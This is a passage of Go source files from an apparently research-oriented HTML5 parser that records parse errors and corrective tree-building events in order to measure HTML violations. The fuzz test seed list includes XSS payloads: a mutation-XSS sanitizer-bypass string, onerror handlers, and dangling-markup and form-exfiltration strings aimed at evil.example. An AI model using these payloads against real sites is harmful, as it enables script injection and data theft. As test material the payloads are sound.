		n := tb.currentNode()
		if n == nil || n.Namespace != NamespaceHTML || !impliedEndTags[n.Data] || n.Data == except {
			return
		}
		tb.pop()
	}
}

// closePElement implements "close a p element".
func (tb *treeBuilder) closePElement() {
	tb.generateImpliedEndTags("p")
	tb.popUntil("p")
}

// mergeAttrs copies attributes from t that dst does not already have
// (the <html> and second-<body> merge rule).
func (tb *treeBuilder) mergeAttrs(dst *Node, t Token) {
	for _, a := range t.Attr {
		if a.Duplicate {
			continue
		}
		if _, ok := dst.LookupAttr(a.Name); !ok {
			dst.Attr = append(dst.Attr, a)
		}
	}
}

// ---- active formatting elements ----

// pushAFE adds a formatting element, applying the Noah's Ark clause (at
// most three identical entries since the last marker).
func (tb *treeBuilder) pushAFE(n *Node, t Token) {
	identical := 0
	for i := len(tb.afe) - 1; i >= 0; i-- {
		e := tb.afe[i]
		if e.node == nil {
			break
		}
		if sameFormatting(e.node, n) {
			identical++
			if identical == 3 {
				tb.afe = append(tb.afe[:i], tb.afe[i+1:]...)
				break
			}
		}
	}
	tb.afe = append(tb.afe, afeEntry{node: n, token: t})
}

func sameFormatting(a, b *Node) bool {
	if a.Data != b.Data || a.Namespace != b.Namespace || len(a.Attr) != len(b.Attr) {
		return false
	}
	for _, aa := range a.Attr {
		v, ok := b.LookupAttr(aa.Name)
		if !ok || v != aa.Value {
			return false
		}
	}
	return true
}

func (tb *treeBuilder) pushAFEMarker() {
	tb.afe = append(tb.afe, afeEntry{})
}

// clearAFEToMarker implements "clear the list of active formatting
// elements up to the last marker".
func (tb *treeBuilder) clearAFEToMarker() {
	for len(tb.afe) > 0 {
		e := tb.afe[len(tb.afe)-1]
		tb.afe = tb.afe[:len(tb.afe)-1]
		if e.node == nil {
			return
		}
	}
}

func (tb *treeBuilder) removeFromAFE(n *Node) {
	for i := len(tb.afe) - 1; i >= 0; i-- {
		if tb.afe[i].node == n {
			tb.afe = append(tb.afe[:i], tb.afe[i+1:]...)
			return
		}
	}
}

// afeIndexAfterLastMarker finds the most recent entry with the given tag
// after the last marker, returning its index or -1.
func (tb *treeBuilder) afeIndexAfterLastMarker(tag string) int {
	for i := len(tb.afe) - 1; i >= 0; i-- {
		if tb.afe[i].node == nil {
			return -1
		}
		if tb.afe[i].node.Data == tag {
			return i
		}
	}
	return -1
}

// reconstructAFE implements "reconstruct the active formatting elements".
func (tb *treeBuilder) reconstructAFE() {
	if len(tb.afe) == 0 {
		return
	}
	last := tb.afe[len(tb.afe)-1]
	if last.node == nil || tb.indexOnStack(last.node) >= 0 {
		return
	}
	// Rewind to the earliest entry needing reconstruction.
	i := len(tb.afe) - 1
	for i > 0 {
		prev := tb.afe[i-1]
		if prev.node == nil || tb.indexOnStack(prev.node) >= 0 {
			break
		}
		i--
	}
	for ; i < len(tb.afe); i++ {
		entry := tb.afe[i]
		n := tb.insertElement(entry.token, NamespaceHTML)
		tb.afe[i] = afeEntry{node: n, token: entry.token}
	}
}

// resetInsertionMode implements "reset the insertion mode appropriately".
func (tb *treeBuilder) resetInsertionMode() {
	for i := len(tb.stack) - 1; i >= 0; i-- {
		n := tb.stack[i]
		last := i == 0
		if n.Namespace != NamespaceHTML {
			continue
		}
		switch n.Data {
		case "select":
			tb.mode = modeInSelect
			for j := i - 1; j >= 0; j-- {
				if tb.stack[j].IsElement("table") {
					tb.mode = modeInSelectInTable
					break
				}
			}
			return
		case "td", "th":
			if !last {
				tb.mode = modeInCell
				return
			}
		case "tr":
			tb.mode = modeInRow
			return
		case "tbody", "thead", "tfoot":
			tb.mode = modeInTableBody
			return
		case "caption":
			tb.mode = modeInCaption
			return
		case "colgroup":
			tb.mode = modeInColumnGroup
			return
		case "table":
			tb.mode = modeInTable
			return
		case "head":
			if !last {
				tb.mode = modeInHead
				return
			}
		case "body":
			tb.mode = modeInBody
			return
		case "frameset":
			tb.mode = modeInFrameset
			return
		case "html":
			if tb.head == nil {
				tb.mode = modeBeforeHead
			} else {
				tb.mode = modeAfterHead
			}
			return
		}
		if last {
			tb.mode = modeInBody
			return
		}
	}
	tb.mode = modeInBody
}
