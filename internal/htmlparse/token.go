package htmlparse

import (
	"strings"
)

// TokenType identifies the kind of a token emitted by the Tokenizer.
type TokenType int

const (
	// CharacterToken carries a run of character data.
	CharacterToken TokenType = iota
	// StartTagToken is an opening tag such as <div id=x>.
	StartTagToken
	// EndTagToken is a closing tag such as </div>.
	EndTagToken
	// CommentToken is a <!-- comment -->.
	CommentToken
	// DoctypeToken is a <!DOCTYPE ...> declaration.
	DoctypeToken
	// EOFToken is emitted exactly once, when the input is exhausted.
	EOFToken
)

func (t TokenType) String() string {
	switch t {
	case CharacterToken:
		return "Character"
	case StartTagToken:
		return "StartTag"
	case EndTagToken:
		return "EndTag"
	case CommentToken:
		return "Comment"
	case DoctypeToken:
		return "Doctype"
	case EOFToken:
		return "EOF"
	}
	return "Invalid"
}

// Attribute is a single name/value pair on a tag token. RawValue preserves
// the attribute value before character reference decoding; the data
// exfiltration rules (DE3) inspect RawValue because that is the byte
// sequence a URL loader or window.open would consume.
type Attribute struct {
	Name     string
	Value    string
	RawValue string
	// Quote records how the value was delimited: '"', '\'' or 0 (unquoted
	// or empty attribute).
	Quote byte
	// Duplicate marks an attribute whose name already appeared on this tag;
	// per the spec it is dropped from the element, with a
	// duplicate-attribute parse error.
	Duplicate bool
	Pos       Position
}

// Token is one output of the tokenization stage.
type Token struct {
	Type TokenType
	// Data is the tag name (lowercased) for tag tokens, the text for
	// character tokens, the comment text for comment tokens, and the
	// doctype name for doctype tokens.
	Data string
	Attr []Attribute
	// SelfClosing is set on tags written <br/>.
	SelfClosing bool
	// Doctype identifier fields (valid when Type == DoctypeToken).
	PublicID    string
	SystemID    string
	ForceQuirks bool
	Pos         Position
}

// LookupAttr returns the value of the first non-duplicate attribute with
// the given (lowercase) name and whether it was present.
func (t *Token) LookupAttr(name string) (string, bool) {
	for i := range t.Attr {
		if t.Attr[i].Name == name && !t.Attr[i].Duplicate {
			return t.Attr[i].Value, true
		}
	}
	return "", false
}

// String renders a compact, debugging-oriented form of the token.
func (t *Token) String() string {
	var b strings.Builder
	switch t.Type {
	case CharacterToken:
		b.WriteString("#text:")
		if len(t.Data) > 40 {
			b.WriteString(t.Data[:40] + "…")
		} else {
			b.WriteString(t.Data)
		}
	case StartTagToken:
		b.WriteByte('<')
		b.WriteString(t.Data)
		for _, a := range t.Attr {
			b.WriteByte(' ')
			b.WriteString(a.Name)
			b.WriteString(`="`)
			b.WriteString(a.Value)
			b.WriteByte('"')
		}
		if t.SelfClosing {
			b.WriteByte('/')
		}
		b.WriteByte('>')
	case EndTagToken:
		b.WriteString("</")
		b.WriteString(t.Data)
		b.WriteByte('>')
	case CommentToken:
		b.WriteString("<!--")
		b.WriteString(t.Data)
		b.WriteString("-->")
	case DoctypeToken:
		b.WriteString("<!DOCTYPE ")
		b.WriteString(t.Data)
		b.WriteByte('>')
	case EOFToken:
		b.WriteString("EOF")
	}
	return b.String()
}

func isASCIIUpper(r rune) bool { return 'A' <= r && 'Z' >= r }
func isASCIILower(r rune) bool { return 'a' <= r && 'z' >= r }
func isASCIIAlpha(r rune) bool { return isASCIIUpper(r) || isASCIILower(r) }
func isASCIIDigit(r rune) bool { return '0' <= r && '9' >= r }
func isASCIIAlnum(r rune) bool { return isASCIIAlpha(r) || isASCIIDigit(r) }
func isASCIIHex(r rune) bool {
	return isASCIIDigit(r) || ('a' <= r && r <= 'f') || ('A' <= r && r <= 'F')
}

// isWhitespace matches the spec's "ASCII whitespace" class used between
// attributes and in tag dispatch.
func isWhitespace(r rune) bool {
	switch r {
	case '\t', '\n', '\f', ' ', '\r':
		return true
	}
	return false
}

func toLowerRune(r rune) rune {
	if isASCIIUpper(r) {
		return r + 0x20
	}
	return r
}
