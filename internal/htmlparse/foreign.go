package htmlparse

import "strings"

// Foreign content rules (spec 13.2.6.5): parsing inside <svg> and <math>
// subtrees. The namespace switches and forced breakouts implemented here
// are the machinery behind the paper's HF5 violations and the Figure 1
// mutation XSS example.

// useForeignRules implements the tree construction dispatcher: it decides
// whether the token is processed by the current insertion mode or by the
// rules for parsing tokens in foreign content.
func (tb *treeBuilder) useForeignRules(t *Token) bool {
	if len(tb.stack) == 0 {
		return false
	}
	acn := tb.adjustedCurrentNode()
	if acn.Namespace == NamespaceHTML {
		return false
	}
	if isMathMLTextIntegrationPoint(acn) {
		if t.Type == StartTagToken && t.Data != "mglyph" && t.Data != "malignmark" {
			return false
		}
		if t.Type == CharacterToken {
			return false
		}
	}
	if acn.Namespace == NamespaceMathML && acn.Data == "annotation-xml" &&
		t.Type == StartTagToken && t.Data == "svg" {
		return false
	}
	if isHTMLIntegrationPoint(acn) && (t.Type == StartTagToken || t.Type == CharacterToken) {
		return false
	}
	return t.Type != EOFToken
}

// currentForeignNamespace reports the foreign namespace the parser is in
// (the nearest non-HTML element on the stack).
func (tb *treeBuilder) currentForeignNamespace() Namespace {
	for i := len(tb.stack) - 1; i >= 0; i-- {
		if ns := tb.stack[i].Namespace; ns != NamespaceHTML {
			return ns
		}
	}
	return NamespaceHTML
}

func (tb *treeBuilder) foreignIM(t *Token) bool {
	switch t.Type {
	case CharacterToken:
		data := t.Data
		if strings.ContainsRune(data, 0) {
			tb.parseError(ErrUnexpectedNullCharacter, "", tb.nulPos(t))
			data = strings.ReplaceAll(data, "\x00", "�")
		}
		tb.insertText(data, t.Pos)
		if !isAllWhitespace(data) {
			tb.framesetOK = false
		}
		return true
	case CommentToken:
		tb.insertComment(*t, nil)
		return true
	case DoctypeToken:
		tb.parseError(ErrUnexpectedDoctype, "", t.Pos)
		return true
	case StartTagToken:
		breakout := breakoutElements[t.Data]
		if t.Data == "font" {
			breakout = false
			for _, a := range t.Attr {
				switch a.Name {
				case "color", "face", "size":
					breakout = true
				}
			}
		}
		if breakout {
			// An HTML element inside foreign content: the parser pops out
			// of the foreign subtree and re-processes the tag as HTML.
			// This is the HF5_2 (SVG) / HF5_3 (MathML) signal and the
			// namespace-confusion step of the Figure 1 sanitizer bypass.
			from := tb.currentForeignNamespace()
			tb.parseError(ErrForeignContentBreakout, t.Data, t.Pos)
			tb.event(EventForeignBreakout, t.Data, from, t.Pos)
			tb.popForeign()
			return false
		}
		ns := tb.adjustedCurrentNode().Namespace
		if ns == NamespaceSVG {
			if adj, ok := svgTagAdjustments[t.Data]; ok {
				t.Data = adj
			}
			for i := range t.Attr {
				if adj, ok := svgAttrAdjustments[t.Attr[i].Name]; ok {
					t.Attr[i].Name = adj
				}
			}
		}
		if ns == NamespaceMathML {
			for i := range t.Attr {
				if t.Attr[i].Name == "definitionurl" {
					t.Attr[i].Name = "definitionURL"
				}
			}
		}
		tb.insertElement(*t, ns)
		if t.SelfClosing {
			tb.pop()
			tb.ackSelfClosing()
		}
		return true
	case EndTagToken:
		node := tb.currentNode()
		if asciiLower(node.Data) != t.Data {
			tb.parseError(ErrUnexpectedEndTag, t.Data, t.Pos)
		}
		for i := len(tb.stack) - 1; i > 0; i-- {
			node = tb.stack[i]
			if asciiLower(node.Data) == t.Data {
				for len(tb.stack) > i {
					tb.pop()
				}
				return true
			}
			if tb.stack[i-1].Namespace == NamespaceHTML {
				break
			}
		}
		return tb.handle(tb.mode, t)
	}
	return true
}

// popForeign pops elements until the current node is a MathML text
// integration point, an HTML integration point, or in the HTML namespace.
func (tb *treeBuilder) popForeign() {
	for {
		n := tb.currentNode()
		if n == nil || n.Namespace == NamespaceHTML ||
			isMathMLTextIntegrationPoint(n) || isHTMLIntegrationPoint(n) {
			return
		}
		tb.pop()
	}
}
