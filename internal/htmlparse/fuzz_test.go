package htmlparse

import (
	"strings"
	"testing"
	"unicode/utf8"
)

// Native fuzz targets. `go test` runs the seed corpus as regular tests;
// `go test -fuzz FuzzParse ./internal/htmlparse` explores further. Every
// interesting payload from the paper is a seed.

var fuzzSeeds = []string{
	"",
	"plain text",
	"<!DOCTYPE html><html><head><title>t</title></head><body><p>x</p></body></html>",
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<form action="https://evil.example"><input type="submit"><textarea>`,
	`<img src='http://evil.example/?content=`,
	`<script src="https://evil.example/x.js" inj="`,
	`<p <body onload="checkSecurity()">`,
	`<table><tr><strong>x</strong></tr></table>`,
	`<img/src="x"/onerror="alert('XSS')">`,
	`<img src="users/injection"onerror="alert('XSS')">`,
	`<div id="injection" onclick="evil()" onclick="benign()">`,
	"<svg><desc><div>breakout</div></svg>",
	"<select><option><p id=private>secret</p></select>",
	"<!--<!-- nested --><![CDATA[x]]><?pi?>",
	"<script><!--<script></script>--></script>",
	"&amp;&#x41;&notin;&not;&bogus;&#xD800;&#1114112;",
	"<a b='c\x00d'>\x00",
	"<title>&amp;</title><textarea>\nx</textarea><plaintext>rest",
	"<html lang=a><html lang=b><body x=1><body y=2>",
}

func FuzzParse(f *testing.F) {
	for _, s := range fuzzSeeds {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		res, err := Parse(data)
		if err == ErrNotUTF8 {
			if utf8.Valid(data) {
				t.Fatalf("valid UTF-8 rejected")
			}
			return
		}
		if err != nil {
			t.Fatalf("unexpected error: %v", err)
		}
		// The output must re-parse without failure.
		out := RenderString(res.Doc)
		if _, err := Parse([]byte(out)); err != nil {
			t.Fatalf("render not re-parseable: %v\nrender: %q", err, out)
		}
	})
}

func FuzzParseFragment(f *testing.F) {
	for _, s := range fuzzSeeds {
		f.Add([]byte(s), "div")
	}
	f.Add([]byte("<tr><td>x"), "table")
	f.Add([]byte("<option>x"), "select")
	f.Add([]byte("raw"), "textarea")
	f.Fuzz(func(t *testing.T, data []byte, context string) {
		// Normalize the fuzzed context to a plausible tag name.
		context = strings.ToLower(context)
		ok := context != ""
		for _, r := range context {
			if r < 'a' || r > 'z' {
				ok = false
				break
			}
		}
		if !ok {
			context = "div"
		}
		if _, err := ParseFragment(data, context); err != nil && err != ErrNotUTF8 {
			t.Fatalf("fragment(%q): %v", context, err)
		}
	})
}

func FuzzTokenizer(f *testing.F) {
	for _, s := range fuzzSeeds {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		pre, err := Preprocess(data)
		if err != nil {
			return
		}
		z := NewTokenizer(pre.Input)
		tokens := 0
		for {
			tok := z.Next()
			if tok.Type == EOFToken {
				break
			}
			tokens++
			if tokens > len(pre.Input)+16 {
				t.Fatalf("tokenizer emitted more tokens (%d) than input bytes (%d): livelock",
					tokens, len(pre.Input))
			}
		}
	})
}
