// Package htmlparse implements the HTML parsing process of the WHATWG HTML
// Living Standard (section 13.2) from scratch: byte stream decoding, input
// stream preprocessing, the tokenizer state machine, and the tree
// construction stage, including foster parenting, the adoption agency
// algorithm, and SVG/MathML foreign content.
//
// Unlike a rendering-oriented parser, this one is built for *measurement*:
// it surfaces every specification-named parse error (ParseError) and every
// corrective action of the error-tolerant tree builder (TreeEvent), which
// is exactly the signal the violation rules in internal/core consume. This
// mirrors the instrumented parsing approach of Hantke & Stock, "HTML
// Violations and Where to Find Them" (IMC '22).
package htmlparse

import "sort"

// Options configures Parse.
type Options struct {
	// RecordTokens captures the tag tokens the tokenizer emitted (character
	// tokens are omitted). The DE3 rules inspect raw attribute values from
	// this trace, because tokens that the tree builder drops (for example a
	// nested form) never reach the DOM.
	RecordTokens bool
	// MaxTreeDepth, when positive, aborts the parse with
	// ErrTreeDepthExceeded once the open-element stack exceeds it.
	// Online serving sets it so adversarial deeply-nested documents
	// fail fast instead of growing per-request state with the input;
	// batch measurement leaves it zero (unlimited). Only honoured by
	// the context-aware entry points (ParseReuseContext).
	MaxTreeDepth int
}

// Result is the complete output of one parse: the DOM, the merged parse
// errors from all stages, the tree builder's corrective events, and
// (optionally) the tag token trace.
type Result struct {
	Doc    *Node
	Errors []ParseError
	Events []TreeEvent
	Tokens []Token
	// Quirks reports full quirks mode; Mode carries the three-way
	// classification (no-quirks / limited-quirks / quirks).
	Quirks bool
	Mode   QuirksMode
}

// HasError reports whether any recorded parse error carries the given code.
func (r *Result) HasError(code ErrorCode) bool {
	for i := range r.Errors {
		if r.Errors[i].Code == code {
			return true
		}
	}
	return false
}

// ErrorsByCode returns all parse errors with the given code.
func (r *Result) ErrorsByCode(code ErrorCode) []ParseError {
	var out []ParseError
	for i := range r.Errors {
		if r.Errors[i].Code == code {
			out = append(out, r.Errors[i])
		}
	}
	return out
}

// EventsByKind returns all tree events of the given kind.
func (r *Result) EventsByKind(kind EventKind) []TreeEvent {
	var out []TreeEvent
	for i := range r.Events {
		if r.Events[i].Kind == kind {
			out = append(out, r.Events[i])
		}
	}
	return out
}

// Parse parses a text/html document with default options. It returns
// ErrNotUTF8 for streams that do not decode as UTF-8 (which the
// measurement pipeline filters out, per the paper's methodology); any
// other malformed input parses successfully with errors recorded in the
// Result — error tolerance by design.
func Parse(b []byte) (*Result, error) {
	return ParseWithOptions(b, Options{RecordTokens: true})
}

// ParseWithOptions is Parse with explicit options.
func ParseWithOptions(b []byte, opts Options) (*Result, error) {
	pre, err := Preprocess(b)
	if err != nil {
		return nil, err
	}
	z := NewTokenizer(pre.Input)
	tb := newTreeBuilder(z)
	tb.recordTokens = opts.RecordTokens
	tb.run()
	return assemble(pre, z, tb, tb.doc), nil
}

// ParseFragment parses input with the HTML fragment parsing algorithm
// (innerHTML semantics) in the given context element. This is what DOM
// sinks like innerHTML and what sanitizers operate on — the second parse
// in a mutation XSS chain. The returned Doc is the fragment's root whose
// children are the parsed nodes.
func ParseFragment(b []byte, context string) (*Result, error) {
	pre, err := Preprocess(b)
	if err != nil {
		return nil, err
	}
	z := NewTokenizer(pre.Input)
	tb := newTreeBuilder(z)
	tb.recordTokens = true
	root := tb.setupFragment(context)
	tb.run()
	res := assemble(pre, z, tb, root)
	return res, nil
}

// setupFragment arranges the tree builder for the fragment parsing
// algorithm: a context element standing in as the adjusted current node,
// an implied html root, and the context-appropriate insertion mode and
// tokenizer content model.
func (tb *treeBuilder) setupFragment(context string) (root *Node) {
	ctx := tb.newNode()
	*ctx = Node{Type: ElementNode, Data: context, Namespace: NamespaceHTML}
	tb.fragment = ctx
	root = tb.newNode()
	*root = Node{Type: ElementNode, Data: "html", Namespace: NamespaceHTML, Implied: true}
	tb.doc.AppendChild(root)
	tb.push(root)
	tb.resetModeForFragment(context)
	if context == "form" {
		tb.form = ctx
	}
	tb.z.StartRawText(context)
	return root
}

func assemble(pre *Preprocessed, z *Tokenizer, tb *treeBuilder, doc *Node) *Result {
	res := &Result{Doc: doc, Events: tb.events, Tokens: tb.tokens, Quirks: tb.quirks, Mode: tb.quirksMode}
	res.Errors = append(res.Errors, pre.Errors...)
	res.Errors = append(res.Errors, z.Errors()...)
	res.Errors = append(res.Errors, tb.errors...)
	sort.SliceStable(res.Errors, func(i, j int) bool {
		return res.Errors[i].Pos.Offset < res.Errors[j].Pos.Offset
	})
	if m := metrics.Load(); m != nil {
		m.arenaSlabs.Add(uint64(tb.arena.slabs))
		m.arenaNodes.Add(uint64(tb.arena.nodes))
	}
	return res
}

// resetModeForFragment implements the fragment case of "reset the
// insertion mode appropriately", with the context element in the "last
// node" role.
func (tb *treeBuilder) resetModeForFragment(context string) {
	switch context {
	case "select":
		tb.mode = modeInSelect
	case "tr":
		tb.mode = modeInRow
	case "tbody", "thead", "tfoot":
		tb.mode = modeInTableBody
	case "caption":
		tb.mode = modeInCaption
	case "colgroup":
		tb.mode = modeInColumnGroup
	case "table":
		tb.mode = modeInTable
	case "frameset":
		tb.mode = modeInFrameset
	case "html":
		tb.mode = modeBeforeHead
	default:
		tb.mode = modeInBody
	}
}
