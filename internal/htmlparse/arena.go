package htmlparse

// nodeArena hands out Node values from chunked slabs, replacing one heap
// allocation per node with one per arenaChunk nodes. Slabs are owned by
// the document built from them (its nodes point into the slab arrays), so
// an arena is per-parse and never recycled: Parser.reset drops any
// partially used slab rather than sharing a backing array between two
// documents, which would couple their lifetimes under the GC.
type nodeArena struct {
	slab  []Node
	nodes int // total nodes served, for the htmlparse_arena_nodes_total metric
	slabs int // total slabs allocated
}

const arenaChunk = 256

func (a *nodeArena) new() *Node {
	if len(a.slab) == 0 {
		a.slab = make([]Node, arenaChunk)
		a.slabs++
	}
	n := &a.slab[0]
	a.slab = a.slab[1:]
	a.nodes++
	return n
}
