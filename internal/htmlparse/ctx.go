package htmlparse

import (
	"context"
	"errors"
)

// Context-aware parsing: the entry point an online service uses so a
// per-request deadline propagates into the parser itself. A malicious
// or pathological document can cost arbitrary tree-construction work
// relative to its byte size (deep nesting, adoption-agency churn), so
// bounding the request body alone is not enough — the parse loop has
// to observe cancellation and the open-element depth cap from inside.

// ErrTreeDepthExceeded is returned by the context-aware parse entry
// points when the document nests deeper than Options.MaxTreeDepth. It
// is a property of the input, not of the service's health: handlers
// should map it to a 4xx, never retry it.
var ErrTreeDepthExceeded = errors.New("htmlparse: open-element depth exceeds the configured cap")

// ParseReuseContext is ParseReuse bounded by ctx and opts: the tree
// builder polls ctx between token batches and aborts with ctx.Err()
// when the deadline passes or the caller disconnects, and enforces
// Options.MaxTreeDepth. On abort the pooled parser's scratch state is
// recycled normally — an aborted parse never poisons the pool.
func ParseReuseContext(ctx context.Context, b []byte, opts Options) (*Result, error) {
	pre, err := Preprocess(b)
	if err != nil {
		return nil, err
	}
	if err := ctx.Err(); err != nil {
		return nil, err
	}
	p := getParser()
	p.reset(pre.Input, opts)
	p.tb.cancel = ctx.Err
	p.tb.maxDepth = opts.MaxTreeDepth
	p.tb.run()
	if aerr := p.tb.abort; aerr != nil {
		// The partial tree is abandoned with the arena; only scratch
		// returns to the pool, exactly as after a completed parse.
		parserPool.Put(p)
		return nil, aerr
	}
	res := assemble(pre, &p.z, &p.tb, p.tb.doc)
	parserPool.Put(p)
	return res, nil
}
