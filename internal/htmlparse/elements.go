package htmlparse

// Element classification tables from the HTML Living Standard, used by the
// tree construction stage.

func newStringSet(names ...string) map[string]bool {
	m := make(map[string]bool, len(names))
	for _, n := range names {
		m[n] = true
	}
	return m
}

// voidElements never have content or end tags.
var voidElements = newStringSet(
	"area", "base", "br", "col", "embed", "hr", "img", "input",
	"link", "meta", "param", "source", "track", "wbr",
)

// specialElements is the spec's "special" category (13.2.4.2), which the
// in-body end-tag-anything algorithm and the adoption agency consult.
var specialElements = newStringSet(
	"address", "applet", "area", "article", "aside", "base", "basefont",
	"bgsound", "blockquote", "body", "br", "button", "caption", "center",
	"col", "colgroup", "dd", "details", "dir", "div", "dl", "dt", "embed",
	"fieldset", "figcaption", "figure", "footer", "form", "frame",
	"frameset", "h1", "h2", "h3", "h4", "h5", "h6", "head", "header",
	"hgroup", "hr", "html", "iframe", "img", "input", "keygen", "li",
	"link", "listing", "main", "marquee", "menu", "meta", "nav", "noembed",
	"noframes", "noscript", "object", "ol", "p", "param", "plaintext",
	"pre", "script", "search", "section", "select", "source", "style",
	"summary", "table", "tbody", "td", "template", "textarea", "tfoot",
	"th", "thead", "title", "tr", "track", "ul", "wbr", "xmp",
)

// formattingElements participate in the list of active formatting elements
// and the adoption agency algorithm.
var formattingElements = newStringSet(
	"a", "b", "big", "code", "em", "font", "i", "nobr", "s", "small",
	"strike", "strong", "tt", "u",
)

// headElements are the elements the spec allows inside <head>.
var headElements = newStringSet(
	"base", "basefont", "bgsound", "link", "meta", "noframes", "noscript",
	"script", "style", "template", "title",
)

// impliedEndTags lists the elements whose end tags may be generated
// implicitly ("generate implied end tags").
var impliedEndTags = newStringSet(
	"dd", "dt", "li", "optgroup", "option", "p", "rb", "rp", "rt", "rtc",
)

// allowedOpenAtEOF lists the elements the spec permits to remain on the
// stack of open elements at end-of-file without a parse error.
var allowedOpenAtEOF = newStringSet(
	"dd", "dt", "li", "optgroup", "option", "p", "rb", "rp", "rt", "rtc",
	"tbody", "td", "tfoot", "th", "thead", "tr", "body", "html",
)

// defaultScopeStop terminates "has an element in scope" searches.
var defaultScopeStop = newStringSet(
	"applet", "caption", "html", "table", "td", "th", "marquee", "object",
	"template",
	// Foreign scope stops (MathML text integration points and SVG HTML
	// integration points) are handled by namespace in elementInScope.
)

// listItemScopeExtra extends the default scope for li matching.
var listItemScopeExtra = newStringSet("ol", "ul")

// buttonScopeExtra extends the default scope for p matching.
var buttonScopeExtra = newStringSet("button")

// tableScopeStop is the stop set for "has an element in table scope".
var tableScopeStop = newStringSet("html", "table", "template")

// tableContextTags is used when clearing the stack back to table context.
var tableContextTags = newStringSet("table", "template", "html")

// tableBodyContextTags clears back to a table body context.
var tableBodyContextTags = newStringSet("tbody", "tfoot", "thead", "template", "html")

// tableRowContextTags clears back to a table row context.
var tableRowContextTags = newStringSet("tr", "template", "html")

// tableAllowedChildren is content legal directly inside table-related
// insertion modes; anything else foster-parents (the HF4 signal).
var tableAllowedChildren = newStringSet(
	"caption", "colgroup", "col", "tbody", "tfoot", "thead", "tr", "td",
	"th", "style", "script", "template", "form", "input",
)

// breakoutElements, when seen in foreign content, force the parser back to
// the HTML namespace (spec 13.2.6.5) — the HF5_2/HF5_3 signal.
var breakoutElements = newStringSet(
	"b", "big", "blockquote", "body", "br", "center", "code", "dd", "div",
	"dl", "dt", "em", "embed", "h1", "h2", "h3", "h4", "h5", "h6", "head",
	"hr", "i", "img", "li", "listing", "menu", "meta", "nobr", "ol", "p",
	"pre", "ruby", "s", "small", "span", "strong", "strike", "sub", "sup",
	"table", "tt", "u", "ul", "var",
)

// svgOnlyElements exist only in the SVG vocabulary. Seeing one while in the
// HTML namespace indicates detached foreign markup (the HF5_1 signal).
// Elements that double as HTML tags (a, title, style, script, font, image)
// are excluded.
var svgOnlyElements = newStringSet(
	"animate", "animatemotion", "animatetransform", "circle", "clippath",
	"defs", "desc", "ellipse", "feblend", "fecolormatrix",
	"fecomponenttransfer", "fecomposite", "feconvolvematrix",
	"fediffuselighting", "fedisplacementmap", "fedistantlight",
	"fedropshadow", "feflood", "fefunca", "fefuncb", "fefuncg", "fefuncr",
	"fegaussianblur", "feimage", "femerge", "femergenode", "femorphology",
	"feoffset", "fepointlight", "fespecularlighting", "fespotlight",
	"fetile", "feturbulence", "filter", "foreignobject", "g", "line",
	"lineargradient", "marker", "mask", "metadata", "mpath", "path",
	"pattern", "polygon", "polyline", "radialgradient", "rect", "set",
	"stop", "switch", "symbol", "text", "textpath", "tspan", "use", "view",
)

// mathmlOnlyElements exist only in the MathML vocabulary.
var mathmlOnlyElements = newStringSet(
	"maction", "maligngroup", "malignmark", "menclose", "merror",
	"mfenced", "mfrac", "mglyph", "mi", "mlabeledtr", "mlongdiv",
	"mmultiscripts", "mn", "mo", "mover", "mpadded", "mphantom", "mroot",
	"mrow", "ms", "mscarries", "mscarry", "msgroup", "msline", "mspace",
	"msqrt", "msrow", "mstack", "mstyle", "msub", "msubsup", "msup",
	"mtable", "mtd", "mtext", "mtr", "munder", "munderover", "semantics",
	"annotation", "annotation-xml",
)

// svgTagAdjustments restores the canonical mixed-case SVG tag names that
// the tokenizer lowercased (spec "adjust SVG tag names").
var svgTagAdjustments = map[string]string{
	"altglyph":            "altGlyph",
	"altglyphdef":         "altGlyphDef",
	"altglyphitem":        "altGlyphItem",
	"animatecolor":        "animateColor",
	"animatemotion":       "animateMotion",
	"animatetransform":    "animateTransform",
	"clippath":            "clipPath",
	"feblend":             "feBlend",
	"fecolormatrix":       "feColorMatrix",
	"fecomponenttransfer": "feComponentTransfer",
	"fecomposite":         "feComposite",
	"feconvolvematrix":    "feConvolveMatrix",
	"fediffuselighting":   "feDiffuseLighting",
	"fedisplacementmap":   "feDisplacementMap",
	"fedistantlight":      "feDistantLight",
	"fedropshadow":        "feDropShadow",
	"feflood":             "feFlood",
	"fefunca":             "feFuncA",
	"fefuncb":             "feFuncB",
	"fefuncg":             "feFuncG",
	"fefuncr":             "feFuncR",
	"fegaussianblur":      "feGaussianBlur",
	"feimage":             "feImage",
	"femerge":             "feMerge",
	"femergenode":         "feMergeNode",
	"femorphology":        "feMorphology",
	"feoffset":            "feOffset",
	"fepointlight":        "fePointLight",
	"fespecularlighting":  "feSpecularLighting",
	"fespotlight":         "feSpotLight",
	"fetile":              "feTile",
	"feturbulence":        "feTurbulence",
	"foreignobject":       "foreignObject",
	"glyphref":            "glyphRef",
	"lineargradient":      "linearGradient",
	"radialgradient":      "radialGradient",
	"textpath":            "textPath",
}

// svgAttrAdjustments restores the canonical mixed-case SVG attribute
// names (spec "adjust SVG attributes").
var svgAttrAdjustments = map[string]string{
	"attributename":       "attributeName",
	"attributetype":       "attributeType",
	"basefrequency":       "baseFrequency",
	"baseprofile":         "baseProfile",
	"calcmode":            "calcMode",
	"clippathunits":       "clipPathUnits",
	"diffuseconstant":     "diffuseConstant",
	"edgemode":            "edgeMode",
	"filterunits":         "filterUnits",
	"glyphref":            "glyphRef",
	"gradienttransform":   "gradientTransform",
	"gradientunits":       "gradientUnits",
	"kernelmatrix":        "kernelMatrix",
	"kernelunitlength":    "kernelUnitLength",
	"keypoints":           "keyPoints",
	"keysplines":          "keySplines",
	"keytimes":            "keyTimes",
	"lengthadjust":        "lengthAdjust",
	"limitingconeangle":   "limitingConeAngle",
	"markerheight":        "markerHeight",
	"markerunits":         "markerUnits",
	"markerwidth":         "markerWidth",
	"maskcontentunits":    "maskContentUnits",
	"maskunits":           "maskUnits",
	"numoctaves":          "numOctaves",
	"pathlength":          "pathLength",
	"patterncontentunits": "patternContentUnits",
	"patterntransform":    "patternTransform",
	"patternunits":        "patternUnits",
	"pointsatx":           "pointsAtX",
	"pointsaty":           "pointsAtY",
	"pointsatz":           "pointsAtZ",
	"preservealpha":       "preserveAlpha",
	"preserveaspectratio": "preserveAspectRatio",
	"primitiveunits":      "primitiveUnits",
